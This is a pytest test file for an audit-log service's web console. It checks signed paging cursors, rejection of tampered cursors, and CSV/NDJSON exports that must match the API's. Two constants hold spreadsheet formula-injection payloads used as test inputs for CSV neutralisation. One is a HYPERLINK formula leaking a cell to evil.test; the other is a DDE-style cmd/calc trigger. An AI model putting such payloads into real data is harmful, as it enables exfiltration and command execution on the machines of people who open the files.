"""The console searches, pages and exports through kimonaudit.search and
kimonaudit.export, exactly as the HTTP API does: the same signed cursor in
its "Older" link, the same bytes in its downloads, and the same
`audit_log.*` entries, with `via` "console"."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.exceptions import StarletteDeprecationWarning

with warnings.catch_warnings():
    # Starlette would rather run its TestClient on `httpx2`; the project uses httpx.
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

from kimonaudit.api import ApiSettings, create_app
from kimonaudit.console.web import ConsoleSettings
from kimonaudit.export import CSV_COLUMNS
from kimonaudit.search import decode_cursor
from tests.consoles import FAST, Console, csrf_of, make_console
from tests.helpers import event

QUERY = "action:ticket.viewed"
# Cells a spreadsheet would run as formulas, led by the line feed the
# neutralisation must not miss.
LF_AGENT = '\n=HYPERLINK("http://evil.test/?leak="&A1,"open")'
LF_REQUEST = "\n@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def console(tmp_path: Path) -> Iterator[Console]:
    with make_console(tmp_path, ConsoleSettings(**{**FAST.__dict__, "page_size": 7})) as c:
        c.log.append(c.tenant, [event(i, action="ticket.viewed") for i in range(20)])
        yield c


def older_href(html: str) -> str | None:
    m = re.search(r'<a href="([^"]+)" rel="next">', html)
    return m.group(1).replace("&amp;", "&") if m else None


def cursor_of(href: str) -> str:
    m = re.search(r"[?&]cursor=([^&]+)", href)
    assert m is not None, href
    return m.group(1)


def flip(cursor: str, at: int) -> str:
    raw = bytearray(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)))
    raw[at] ^= 0x01
    return base64.urlsafe_b64encode(bytes(raw)).rstrip(b"=").decode("ascii")


def searched(c: Console) -> list[dict[str, Any]]:
    rows = [r for r in c.entries() if r.action == "audit_log.searched"]
    return [json.loads(r.payload or b"{}")["metadata"] for r in rows]


def exported(c: Console) -> list[dict[str, Any]]:
    rows = [r for r in c.entries() if r.action == "audit_log.exported"]
    return [json.loads(r.payload or b"{}")["metadata"] for r in rows]


# -- paging ------------------------------------------------------------------------
def test_older_link_carries_the_signed_search_cursor(console: Console) -> None:
    """The "Older" link holds kimonaudit.search's MACed cursor for this tenant
    and canonical query (pointing at the last row shown), not a bare number,
    and each page is audit_log.searched with `cursor` as the API records it."""
    client = console.signed_in()
    # access=1: the query runs as typed (log access included), as through the API
    page = client.get("/console/events", params={"q": "Action:ticket.viewed", "access": "1"}).text
    href = older_href(page)
    assert href is not None
    cursor = cursor_of(href)
    assert not cursor.isdigit()
    shown = [int(s) for s in re.findall(r'data-seq="(\d+)"', page)]
    last_seq, _ = decode_cursor(console.log, console.tenant, QUERY, cursor)
    assert last_seq == shown[-1]
    older = client.get(href)
    assert older.status_code == 200
    assert max(int(s) for s in re.findall(r'data-seq="(\d+)"', older.text)) < last_seq
    assert searched(console) == [
        {"query": QUERY, "rows": 7, "via": "console", "cursor": False},
        {"query": QUERY, "rows": 7, "via": "console", "cursor": True},
    ]


@pytest.mark.parametrize(
    "tamper",
    [
        pytest.param(lambda c: flip(c, 3), id="altered-seq"),
        pytest.param(lambda c: flip(c, 32), id="mac"),  # the last byte of 33
        pytest.param(lambda c: "13", id="old-numeric"),
        pytest.param(lambda c: "not a cursor", id="garbage"),
        pytest.param(lambda c: "A" * 500, id="overlong"),
    ],
)
def test_a_tampered_cursor_is_an_error_page_not_a_500(console: Console, tamper: Any) -> None:
    """An altered, numeric or malformed cursor gives a 400 HTML page that says
    so and links back to the newest results of the same query; nothing is
    read, so no audit_log.searched entry is appended."""
    client = console.signed_in()
    href = older_href(client.get("/console/events", params={"q": QUERY}).text)
    assert href is not None
    before = len(searched(console))
    r = client.get("/console/events", params={"q": QUERY, "cursor": tamper(cursor_of(href))})
    assert r.status_code == 400
    assert r.headers["content-type"].startswith("text/html")
    assert "This page link was altered or belongs to another search" in r.text
    assert '<a href="/console/events?q=action%3Aticket.viewed" id="restart">' in r.text
    assert 'data-seq="' not in r.text
    assert len(searched(console)) == before


def test_a_cursor_from_another_query_is_refused(console: Console) -> None:
    """An "Older" cursor sent with a different query is the same error page,
    never a page of the other query."""
    client = console.signed_in()
    href = older_href(client.get("/console/events", params={"q": QUERY}).text)
    assert href is not None
    r = client.get("/console/events", params={"q": "action:role.*", "cursor": cursor_of(href)})
    assert r.status_code == 400 and 'id="restart"' in r.text


# -- downloads ---------------------------------------------------------------------
def api_export(c: Console, q: str, fmt: str) -> tuple[bytes, dict[str, str]]:
    _, key = c.log.create_api_key(c.tenant, "reader", ["events:read"])
    app = create_app(c.log, settings=ApiSettings(run_jobs=False))
    with TestClient(app) as api:
        r = api.get(
            f"/v1/exports/events.{fmt}",
            params={"q": q},
            headers={"Authorization": f"Bearer {key}"},
        )
    assert r.status_code == 200, r.text
    return r.content, dict(r.headers)


def console_export(c: Console, q: str, fmt: str) -> tuple[bytes, dict[str, str]]:
    client = c.signed_in()
    page = client.get("/console/events", params={"q": q}).text
    data = {"csrf": csrf_of(page), "q": q, "format": fmt, "access": "1"}  # log access included
    r = client.post("/console/export", data=data)
    assert r.status_code == 200, r.text
    return r.content, dict(r.headers)


def test_console_csv_neutralises_lf_and_equals_the_api_export(console: Console) -> None:
    """A console CSV download puts a ' before cells starting with LF and is
    byte for byte the API's export of the same query (documented columns,
    same headers), audited alike apart from `via`."""
    context = {"ip": "203.0.113.9", "user_agent": LF_AGENT, "request_id": LF_REQUEST}
    console.log.append(console.tenant, [event(99, action="ticket.viewed", context=context)])
    mine, mine_headers = console_export(console, QUERY, "csv")
    theirs, their_headers = api_export(console, QUERY, "csv")
    assert mine == theirs
    for h in ("content-type", "content-disposition", "cache-control"):
        assert mine_headers[h] == their_headers[h]
    rows = list(csv.DictReader(io.StringIO(mine.decode("utf-8"), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == 21
    assert rows[-1]["user_agent"] == "'" + LF_AGENT
    assert rows[-1]["request_id"] == "'" + LF_REQUEST
    # The JSON column keeps the value as stored, so it still parses.
    assert json.loads(rows[-1]["context"])["user_agent"] == LF_AGENT
    console_meta, api_meta = exported(console)
    assert console_meta == {**api_meta, "via": "console"}
    assert console_meta == {
        "query": QUERY,
        "rows": 21,
        "via": "console",
        "format": "csv",
        "complete": True,
    }


def test_console_ndjson_equals_the_api_export(console: Console) -> None:
    """A console NDJSON download is byte for byte the API's export of the
    same query, with the same media type and file name."""
    mine, mine_headers = console_export(console, "Action:ticket.viewed", "ndjson")
    theirs, their_headers = api_export(console, QUERY, "ndjson")
    assert mine == theirs and len(mine.splitlines()) == 20
    assert mine_headers["content-type"] == their_headers["content-type"]
    assert mine_headers["content-disposition"] == their_headers["content-disposition"]
    assert [m["query"] for m in exported(console)] == [QUERY, QUERY]
